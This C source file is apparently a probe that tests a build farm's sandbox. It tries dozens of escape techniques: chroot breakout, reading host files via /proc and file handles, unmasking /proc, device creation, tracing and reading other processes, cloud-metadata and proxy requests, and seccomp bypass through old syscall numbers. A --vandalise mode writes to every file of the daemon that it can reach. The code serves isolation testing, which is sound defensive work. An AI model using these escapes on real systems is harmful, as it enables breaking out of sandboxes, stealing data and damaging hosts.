/* Tries to get out of wherever it is: each attempt prints a line "PROBE CONTEXT NAME WHAT-CAME-OF-IT DETAIL".
 *
 * usage: probe CONTEXT CONFIG, or: probe --vandalise CONFIG, which writes to all files of the daemon's that it finds
 * CONFIG has lines "KEY VALUE"; what an attempt needs and is not there is not tried. WHAT-CAME-OF-IT is "done" when the
 * attack worked, and else "failed". Nothing is harmed where it works: what is opened is not written to, what is called is
 * given arguments that it refuses after it has looked at who calls. Run outside, as an ordinary user or as root, it shows
 * that the attacks work at all. Linked statically, as it has to run in any root.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
#ifdef __x86_64__
#include <sys/io.h>
#endif

#define SECRET "debfarm-secret" /* What files and services that are not the build's say. */
#define VICTIM "debfarm-victim" /* In the command line of a process that is not the build's. */

static char config[65536];
static char detail[512];
extern char **environ;

/* The value of a key; NULL when there is none. */
static const char *value(const char *key)
{
    static char found[8][1024];
    static int next;
    char *copy = strdup(config), *rest = copy, *line, *answer = NULL;
    while ((line = strsep(&rest, "\n")) != NULL) {
        size_t length = strlen(key);
        if (strncmp(line, key, length) == 0 && line[length] == ' ') {
            answer = found[next++ % 8];
            snprintf(answer, sizeof found[0], "%s", line + length + 1);
        }
    }
    free(copy);
    return answer;
}

static int number(const char *key)
{
    const char *text = value(key);
    return text ? atoi(text) : 0;
}

/* Attempts answer 0 when the attack worked, an errno when not, and this when they were not tried. */
#define NOT_TRIED -1

static int outcome(long result) { return result < 0 ? errno : 0; }

/* Whether the kernel got as far as looking at the arguments. */
static int reached(long result)
{
    return result < 0 && (errno == EPERM || errno == EACCES || errno == ENOSYS) ? errno : 0;
}

static int says_secret(int fd)
{
    char buffer[4096];
    size_t length = 0;
    ssize_t count;
    while (length < sizeof buffer - 1 && (count = read(fd, buffer + length, sizeof buffer - 1 - length)) > 0)
        length += count;
    buffer[length] = 0;
    snprintf(detail, sizeof detail, "%.60s", buffer);
    for (char *c = detail; *c; c++)
        if (*c < 33 || *c > 126)
            *c = '_';
    return memmem(buffer, length, SECRET, strlen(SECRET)) ? 0 : ENOMSG;
}

static int read_secret(const char *path)
{
    int fd, what;
    if (!path)
        return NOT_TRIED;
    if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
        return errno;
    what = says_secret(fd);
    close(fd);
    return what;
}

static int opens(const char *path, int flags)
{
    int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return 0;
    close(fd);
    snprintf(detail + strlen(detail), sizeof detail - strlen(detail), "%s ", path);
    return 1;
}

/* --- files */

static int host_file(void) { return read_secret(value("file")); }
static int cache(void) { return read_secret(value("cache")); }
static int other_build(void) { return read_secret(value("other_build")); }

static int through_proc(void)
{
    char path[2048];
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    int what = ENOENT;
    if (!value("file") || !processes)
        return NOT_TRIED;
    while ((entry = readdir(processes)) != NULL) {
        if (atoi(entry->d_name) <= 0)
            continue;
        snprintf(path, sizeof path, "/proc/%s/root/%s", entry->d_name, value("file"));
        if (read_secret(path) == 0)
            what = 0;
    }
    closedir(processes);
    return what;
}

static int by_handle(void)
{
    struct {
        struct file_handle handle;
        unsigned char bytes[128];
    } one = {.handle = {.handle_bytes = 128}};
    int mount, fd, place = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (name_to_handle_at(AT_FDCWD, "/usr", &one.handle, &mount, 0) < 0)
        return errno;
    fd = open_by_handle_at(place, &one.handle, O_RDONLY);
    return outcome(fd);
}

/* The oldest way out of chroot(2): go below a root that one is not in, and climb. */
static int break_out(void)
{
    char place[] = "/tmp/debfarm-probe-XXXXXX";
    if (!mkdtemp(place) || chroot(place) < 0)
        return errno;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    return chroot(".") < 0 ? errno : 0;
}

static int chroot_breakout(void)
{
    int what = value("file") ? break_out() : NOT_TRIED;
    return what ? what : read_secret(value("file"));
}

static int vandalise_one(const char *path, const struct stat *status, int kind, struct FTW *where)
{
    (void)where;
    /* Its own root, which is the build's to spoil, is below the daemon's directory, too. */
    if (kind != FTW_F || !S_ISREG(status->st_mode) || strstr(path, "/root/"))
        return 0;
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return 0;
    printf("VANDALISED %s\n", path);
    (void)!write(fd, "x", 1);
    close(fd);
    return 0;
}

/* Whoever is root may well be out of a chroot; elsewhere it is in vain. */
static int vandalise(void)
{
    (void)!break_out();
    return value("directory") ? nftw(value("directory"), vandalise_one, 16, FTW_PHYS) : 2;
}

static int writes_layer(void)
{
    detail[0] = 0;
    int found = 0;
    const char *paths[] = {"/usr/bin/perl", "/usr/bin/dpkg", "/etc/passwd", "/etc/ld.so.preload", "/var/lib/dpkg/status",
                           "/usr/lib/hostile/config", "/etc/apt/sources.list"};
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
        found += opens(paths[i], O_WRONLY | O_CREAT);
    return found ? 0 : EACCES;
}

static int setuid_program(void)
{
    int status;
    const char *path = value("setuid");
    if (!path || geteuid() == 0)
        return NOT_TRIED;
    pid_t child = fork();
    if (child == 0) {
        execl(path, path, "--who", NULL);
        _exit(3);
    }
    waitpid(child, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : EPERM;
}

/* --- mounts and devices */

static int mount_tmpfs(void)
{
    char place[] = "/tmp/debfarm-probe-XXXXXX";
    return mkdtemp(place) ? outcome(mount("none", place, "tmpfs", 0, NULL)) : errno;
}

static int mount_bind(void)
{
    char place[] = "/tmp/debfarm-probe-XXXXXX";
    return mkdtemp(place) ? outcome(mount("/proc", place, NULL, MS_BIND | MS_REC, NULL)) : errno;
}

static int mount_new_api(void)
{
    int fd = syscall(SYS_fsopen, "tmpfs", 0);
    return outcome(fd);
}

/* What is masked could be uncovered, or another /proc mounted that is not masked. */
static int unmask(void)
{
    char place[] = "/tmp/debfarm-probe-XXXXXX", path[128];
    const char *masks[] = {"/proc/sys", "/proc/sysrq-trigger", "/proc/kcore", "/proc/keys", "/proc/irq", "/proc/bus"};
    detail[0] = 0;
    for (size_t i = 0; i < sizeof masks / sizeof *masks; i++) {
        umount2(masks[i], MNT_DETACH);
        mount(NULL, masks[i], NULL, MS_REMOUNT | MS_BIND, NULL);
    }
    if (opens("/proc/sys/kernel/core_pattern", O_WRONLY) + opens("/proc/sysrq-trigger", O_WRONLY))
        return 0;
    if (!mkdtemp(place) || mount("proc", place, "proc", 0, NULL) < 0)
        return errno;
    snprintf(path, sizeof path, "%s/sys/kernel/hostname", place);
    return opens(path, O_WRONLY) ? 0 : errno;
}

static int make_device(void)
{
    char place[] = "/tmp/debfarm-probe-XXXXXX";
    if (!mkdtemp(place) || chdir(place) < 0)
        return errno;
    if (mknod("mem", S_IFCHR | 0600, makedev(1, 1)) < 0 || mknod("disk", S_IFBLK | 0600, makedev(254, 0)) < 0)
        return errno;
    return 0;
}

static int open_devices(void)
{
    char path[300];
    const char *harmless[] = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "stdin", "stdout", "stderr"};
    DIR *devices = opendir("/dev");
    struct dirent *entry;
    struct stat status;
    int found = 0;
    detail[0] = 0;
    while (devices && (entry = readdir(devices)) != NULL) {
        int known = 0;
        for (size_t i = 0; i < sizeof harmless / sizeof *harmless; i++)
            known |= strcmp(entry->d_name, harmless[i]) == 0;
        /* A terminal's driver may wait for a carrier, and a watchdog would begin to watch. */
        if (known || strncmp(entry->d_name, "tty", 3) == 0 || strstr(entry->d_name, "watchdog"))
            continue;
        snprintf(path, sizeof path, "/dev/%s", entry->d_name);
        if (stat(path, &status) == 0 && (S_ISCHR(status.st_mode) || S_ISBLK(status.st_mode)))
            found += opens(path, O_RDONLY);
    }
    return found ? 0 : ENOENT;
}

static int kernel_writes(void)
{
    const char *paths[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
                           "/proc/sysrq-trigger", "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper",
                           "/sys/kernel/mm/ksm/run", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                           "/sys/power/state", "/proc/irq/0/smp_affinity"};
    int found = 0;
    detail[0] = 0;
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
        found += opens(paths[i], O_WRONLY);
    return found ? 0 : EACCES;
}

static int writable_sysctls;

static int try_sysctl(const char *path, const struct stat *status, int kind, struct FTW *where)
{
    /* Those of the network, ipc, uts, pid and user namespaces are the build's own. */
    const char *own[] = {"net/", "user/", "fs/mqueue/", "kernel/shm", "kernel/msg", "kernel/sem", "kernel/auto_msgmni",
                         "kernel/ns_last_pid", "kernel/hostname", "kernel/domainname"};
    (void)where;
    for (size_t i = 0; i < sizeof own / sizeof *own; i++)
        if (strncmp(path + strlen("/proc/sys/"), own[i], strlen(own[i])) == 0)
            return 0;
    if (kind == FTW_F && S_ISREG(status->st_mode))
        writable_sysctls += opens(path, O_WRONLY);
    return 0;
}

static int sysctls(void)
{
    detail[0] = 0;
    writable_sysctls = 0;
    nftw("/proc/sys", try_sysctl, 16, FTW_PHYS | FTW_MOUNT);
    return writable_sysctls ? 0 : EACCES;
}

static int kernel_reads(void)
{
    const char *paths[] = {"/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/proc/kpagecount", "/proc/vmallocinfo",
                           "/proc/timer_list", "/sys/kernel/debug/sched", "/sys/firmware/acpi/tables/DSDT"};
    char buffer[512];
    int found = 0;
    detail[0] = 0;
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
        if (opens(paths[i], O_RDONLY)) {
            int fd = open(paths[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
            found += read(fd, buffer, sizeof buffer) > 0 || errno == EAGAIN;
            close(fd);
        }
    if (klogctl(3, buffer, sizeof buffer) > 0) {
        strcat(detail, "syslog");
        found++;
    }
    return found ? 0 : EACCES;
}

/* --- processes */

static int sees_processes(void)
{
    char path[300], line[4096];
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    int what = ENOENT;
    while (processes && (entry = readdir(processes)) != NULL) {
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        int fd = atoi(entry->d_name) > 0 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
        if (fd < 0)
            continue;
        ssize_t length = read(fd, line, sizeof line);
        if (length > 0 && memmem(line, length, VICTIM, strlen(VICTIM)))
            what = 0;
        close(fd);
    }
    return what;
}

static int signals(void) { return number("pid") ? outcome(kill(number("pid"), 0)) : NOT_TRIED; }
static int pidfd(void) { return number("pid") ? outcome(syscall(SYS_pidfd_open, number("pid"), 0)) : NOT_TRIED; }

static int traces(void)
{
    if (!number("pid"))
        return NOT_TRIED;
    if (ptrace(PTRACE_SEIZE, number("pid"), NULL, NULL) < 0)
        return errno;
    ptrace(PTRACE_DETACH, number("pid"), NULL, NULL);
    return 0;
}

static int reads_memory(void)
{
    char buffer[16], path[64];
    unsigned long address = 0;
    if (!number("pid"))
        return NOT_TRIED;
    snprintf(path, sizeof path, "/proc/%d/maps", number("pid"));
    FILE *maps = fopen(path, "re");
    if (!maps || fscanf(maps, "%lx", &address) != 1)
        return errno ? errno : ENOENT;
    fclose(maps);
    struct iovec here = {buffer, sizeof buffer}, there = {(void *)address, sizeof buffer};
    return outcome(process_vm_readv(number("pid"), &here, 1, &there, 1, 0));
}

/* What the first process of the pid namespace holds open of what is not the build's: its files lead outside. */
static int steals_files(void)
{
    char path[300], target[1024];
    snprintf(path, sizeof path, "/proc/%d/fd", number("holder") ? number("holder") : 1);
    DIR *files = opendir(path);
    struct dirent *entry;
    int found = 0;
    detail[0] = 0;
    if (!files)
        return errno;
    while ((entry = readdir(files)) != NULL) {
        size_t length = strlen(path);
        if (atoi(entry->d_name) < 3)
            continue;
        snprintf(path + length, sizeof path - length, "/%s", entry->d_name);
        ssize_t count = readlink(path, target, sizeof target - 1);
        int fd = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);
        path[length] = 0;
        if (fd < 0)
            continue;
        close(fd);
        target[count > 0 ? count : 0] = 0;
        if (strncmp(target, "pipe:", 5) == 0 || strncmp(target, "/dev/null", 9) == 0)
            continue;
        snprintf(detail + strlen(detail), sizeof detail - strlen(detail), "%s ", target);
        found++;
    }
    closedir(files);
    return found ? 0 : ENOENT;
}

/* Open files that are neither pipes nor found at their names in this root. */
static int inherited_files(void)
{
    int found = 0;
    detail[0] = 0;
    for (int fd = 3; fd < 1024; fd++) {
        char path[64], target[1024];
        struct stat here, there;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0 || fstat(fd, &here) < 0)
            continue;
        target[length] = 0;
        if (strncmp(target, "pipe:", 5) == 0)
            continue;
        if (stat(target, &there) == 0 && here.st_ino == there.st_ino && here.st_dev == there.st_dev && !value("outside"))
            continue;
        snprintf(detail + strlen(detail), sizeof detail - strlen(detail), "%d:%s ", fd, target);
        found++;
    }
    return found ? 0 : ENOENT;
}

static int environment(void)
{
    const char *words[] = {"DEBFARM_", "PYTHON", "NOTIFY_SOCKET", "LISTEN_", "SSH_", "SUDO_"};
    int found = 0;
    detail[0] = 0;
    for (char **one = environ; *one; one++) {
        int bad = value("directory") && strstr(*one, value("directory")) != NULL;
        for (size_t i = 0; i < sizeof words / sizeof *words; i++)
            bad |= strncmp(*one, words[i], strlen(words[i])) == 0;
        if (bad) {
            snprintf(detail + strlen(detail), sizeof detail - strlen(detail), "%.40s ", *one);
            found++;
        }
    }
    return found ? 0 : ENOENT;
}

static int truncates_log(void) { return outcome(ftruncate(1, 0)); }

/* --- network */

static int talk(int family, const char *address, int port, const char *words)
{
    struct sockaddr_in four = {.sin_family = AF_INET, .sin_port = htons(port)};
    struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    struct timeval patience = {.tv_sec = 3};
    struct sockaddr *where = family == AF_INET ? (struct sockaddr *)&four : (struct sockaddr *)&six;
    int fd = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0), what;
    if (fd < 0)
        return errno;
    inet_pton(family, address, family == AF_INET ? (void *)&four.sin_addr : (void *)&six.sin6_addr);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (connect(fd, where, family == AF_INET ? sizeof four : sizeof six) < 0) {
        what = errno;
    } else {
        (void)!write(fd, words, strlen(words));
        what = says_secret(fd);
    }
    close(fd);
    return what;
}

#define GET "GET / HTTP/1.0\r\n\r\n"

static int loopback(void) { return number("port") ? talk(AF_INET, "127.0.0.1", number("port"), GET) : NOT_TRIED; }
static int any_address(void) { return number("port") ? talk(AF_INET, "0.0.0.0", number("port"), GET) : NOT_TRIED; }
static int loopback6(void) { return number("port6") ? talk(AF_INET6, "::1", number("port6"), GET) : NOT_TRIED; }
static int metadata(void) { return number("metadata") ? talk(AF_INET, "169.254.169.254", number("metadata"), GET) : NOT_TRIED; }

static int rpc(void)
{
    char words[512];
    const char *call = "<?xml version='1.0'?><methodCall><methodName>echo</methodName><params><param><value>"
                       "<string>" SECRET "</string></value></param></params></methodCall>";
    snprintf(words, sizeof words, "POST /rpc HTTP/1.0\r\nContent-Type: text/xml\r\nContent-Length: %zu\r\n\r\n%s",
             strlen(call), call);
    return number("rpc") ? talk(AF_INET, "127.0.0.1", number("rpc"), words) : NOT_TRIED;
}

/* Through a proxy: the daemon's own, where there is one. Each URL is a key's value. */
static int by_proxy(const char *key)
{
    char words[1024];
    if (!value(key))
        return NOT_TRIED;
    snprintf(words, sizeof words, "%s HTTP/1.0\r\n\r\n", value(key));
    if (strncmp(words, "CONNECT", 7) == 0)
        strcat(words, GET);
    return talk(AF_INET, "127.0.0.1", number("proxy") ? number("proxy") : 3128, words);
}

static int proxy_archive(void) { return by_proxy("proxy_archive"); }
static int proxy_loopback(void) { return by_proxy("proxy_loopback"); }
static int proxy_localhost(void) { return by_proxy("proxy_localhost"); }
static int proxy_loopback6(void) { return by_proxy("proxy_loopback6"); }
static int proxy_metadata(void) { return by_proxy("proxy_metadata"); }
static int proxy_rpc(void) { return by_proxy("proxy_rpc"); }
static int proxy_connect(void) { return by_proxy("proxy_connect"); }
static int proxy_beside(void) { return by_proxy("proxy_beside"); }
static int proxy_climbing(void) { return by_proxy("proxy_climbing"); }

/* An archive is anybody's: it redirects to where it could not go itself. */
static int proxy_redirect(void)
{
    char words[1024];
    if (by_proxy("proxy_redirect") == NOT_TRIED)
        return NOT_TRIED;
    snprintf(words, sizeof words, "%s HTTP/1.0\r\n\r\n", value("proxy_redirected"));
    return talk(AF_INET, "127.0.0.1", number("proxy") ? number("proxy") : 3128, words);
}

static int abstract_socket(void)
{
    struct sockaddr_un where = {.sun_family = AF_UNIX};
    const char *name = value("abstract");
    int what, fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (!name)
        return NOT_TRIED;
    strncpy(where.sun_path + 1, name, sizeof where.sun_path - 2);
    what = connect(fd, (struct sockaddr *)&where, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)) < 0
               ? errno
               : says_secret(fd);
    close(fd);
    return what;
}

/* The hypervisor of a virtual machine, which no network namespace hides. */
static int vsock(void) { return outcome(socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0)); }

/* --- other ways to meet */

static int shared_memory(void)
{
    if (!value("shm_key"))
        return NOT_TRIED;
    int id = shmget(number("shm_key"), 0, 0);
    if (id < 0)
        return errno;
    char *text = shmat(id, NULL, SHM_RDONLY);
    return text == (void *)-1 ? errno : strncmp(text, SECRET, strlen(SECRET)) ? ENOMSG : 0;
}

static int posix_shared_memory(void) { return read_secret(value("posix_shm")); }

static int keyring(void)
{
    const char *name = value("key");
    return name ? outcome(syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -4 /* the user's */, "user", name, 0)) : NOT_TRIED;
}

/* --- what of the kernel no build needs */

static int add_key(void) { return reached(syscall(SYS_add_key, "user", "debfarm-probe", "x", 1, -2)); }
static int request_key(void) { return reached(syscall(SYS_request_key, "user", "debfarm-none", NULL, 0)); }

static int bpf(void)
{
    union bpf_attr what = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return reached(syscall(SYS_bpf, BPF_MAP_CREATE, &what, sizeof what));
}

static int perf(void)
{
    struct perf_event_attr what = {.type = PERF_TYPE_SOFTWARE, .size = sizeof what, .config = PERF_COUNT_SW_CPU_CLOCK,
                                   .exclude_kernel = 1, .exclude_hv = 1};
    return reached(syscall(SYS_perf_event_open, &what, 0, -1, -1, 0));
}

static int user_faults(void) { return reached(syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* UFFD_USER_MODE_ONLY */)); }

static int io_uring(void)
{
    struct io_uring_params what = {0};
    return reached(syscall(SYS_io_uring_setup, 1, &what));
}

static int kexec(void) { return reached(syscall(SYS_kexec_load, 0UL, 1000UL, NULL, 0UL)); } /* Too many segments. */
static int init_module(void) { return reached(syscall(SYS_init_module, NULL, 0UL, "")); }
static int finit_module(void) { return reached(syscall(SYS_finit_module, -1, "", 0)); }
static int delete_module(void) { return reached(syscall(SYS_delete_module, "debfarm_none", O_NONBLOCK)); }
static int swap(void) { return reached(swapon("/debfarm-none", 0)); }
static int accounting(void) { return reached(acct("/debfarm-none")); }

static int kernel_clock(void)
{
    struct timex what = {.modes = 0};
    if (adjtimex(&what) < 0)
        return errno;
    what.modes = ADJ_FREQUENCY; /* To what it is. */
    return reached(adjtimex(&what));
}

/* A namespace of one's own has a root, who reaches much more of the kernel. */
static int own_namespace(void) { return outcome(unshare(CLONE_NEWUSER | CLONE_NEWNS)); }

#ifdef __x86_64__
/* The same calls by their numbers of other ABIs, which a filter may have forgotten. */
static long old_call(long number, long argument)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(argument), "c"(0L), "d"(0L) : "memory");
    if (result >= 0)
        return result;
    errno = (int)-result;
    return -1;
}

static int old_numbers(void)
{
    long argument = 1 /* UFFD_USER_MODE_ONLY */;
    return reached(old_call(374 /* userfaultfd */, argument));
}

static int x32_numbers(void) { return reached(syscall(0x40000000 + SYS_userfaultfd, 1)); }
static int io_ports(void) { return reached(iopl(3)); }
#else
static int old_numbers(void) { return NOT_TRIED; }
static int x32_numbers(void) { return NOT_TRIED; }
static int io_ports(void) { return NOT_TRIED; }
#endif

static const struct {
    const char *name;
    int (*attempt)(void);
} attempts[] = {
    {"truncates-log", truncates_log},
    {"host-file", host_file},
    {"daemons-cache", cache},
    {"other-build", other_build},
    {"file-through-proc", through_proc},
    {"file-by-handle", by_handle},
    {"chroot-breakout", chroot_breakout},
    {"setuid-program", setuid_program},
    {"writes-layer", writes_layer},
    {"mount-tmpfs", mount_tmpfs},
    {"mount-bind", mount_bind},
    {"mount-new-api", mount_new_api},
    {"unmask", unmask},
    {"make-device", make_device},
    {"open-devices", open_devices},
    {"kernel-writes", kernel_writes},
    {"sysctls", sysctls},
    {"kernel-reads", kernel_reads},
    {"sees-processes", sees_processes},
    {"signals", signals},
    {"pidfd", pidfd},
    {"traces", traces},
    {"reads-memory", reads_memory},
    {"steals-files", steals_files},
    {"inherited-files", inherited_files},
    {"environment", environment},
    {"loopback", loopback},
    {"any-address", any_address},
    {"loopback6", loopback6},
    {"metadata", metadata},
    {"rpc", rpc},
    {"proxy-archive", proxy_archive},
    {"proxy-loopback", proxy_loopback},
    {"proxy-localhost", proxy_localhost},
    {"proxy-loopback6", proxy_loopback6},
    {"proxy-metadata", proxy_metadata},
    {"proxy-rpc", proxy_rpc},
    {"proxy-connect", proxy_connect},
    {"proxy-beside", proxy_beside},
    {"proxy-climbing", proxy_climbing},
    {"proxy-redirect", proxy_redirect},
    {"abstract-socket", abstract_socket},
    {"vsock", vsock},
    {"shared-memory", shared_memory},
    {"posix-shared-memory", posix_shared_memory},
    {"keyring", keyring},
    {"add-key", add_key},
    {"request-key", request_key},
    {"bpf", bpf},
    {"perf", perf},
    {"user-faults", user_faults},
    {"io-uring", io_uring},
    {"kexec", kexec},
    {"init-module", init_module},
    {"finit-module", finit_module},
    {"delete-module", delete_module},
    {"swap", swap},
    {"accounting", accounting},
    {"kernel-clock", kernel_clock},
    {"io-ports", io_ports},
    {"own-namespace", own_namespace},
    {"old-numbers", old_numbers},
    {"x32-numbers", x32_numbers},
};

int main(int count, char **words)
{
    if (count == 2 && strcmp(words[1], "--who") == 0)
        return geteuid() == 0 ? 0 : 1;
    if (count != 3)
        return 2;
    int fd = open(words[2], O_RDONLY | O_CLOEXEC);
    if (fd < 0 || read(fd, config, sizeof config - 1) <= 0)
        return 2;
    close(fd);
    if (strcmp(words[1], "--vandalise") == 0)
        return vandalise();
    for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++) {
        int report[2];
        if (pipe2(report, O_CLOEXEC) < 0)
            return 2;
        pid_t child = fork(); /* Some attempts change the process, or end it: a filter may kill. */
        if (child == 0) {
            detail[0] = 0;
            int what = attempts[i].attempt();
            dprintf(report[1], "%s %s%s%s", what == 0 ? "done" : what == NOT_TRIED ? "not-tried" : "failed",
                    what > 0 ? strerrorname_np(what) : "", detail[0] ? " " : "", detail);
            _exit(0);
        }
        close(report[1]);
        char said[1024];
        ssize_t length = 0, more;
        while ((more = read(report[0], said + length, sizeof said - 1 - length)) > 0)
            length += more;
        said[length] = 0;
        close(report[0]);
        int status;
        waitpid(child, &status, 0);
        if (WIFSIGNALED(status))
            snprintf(said, sizeof said, "failed SIG%s", sigabbrev_np(WTERMSIG(status)));
        printf("PROBE %s %s %s\n", words[1], attempts[i].name, said);
        fflush(stdout);
    }
    return 0;
}
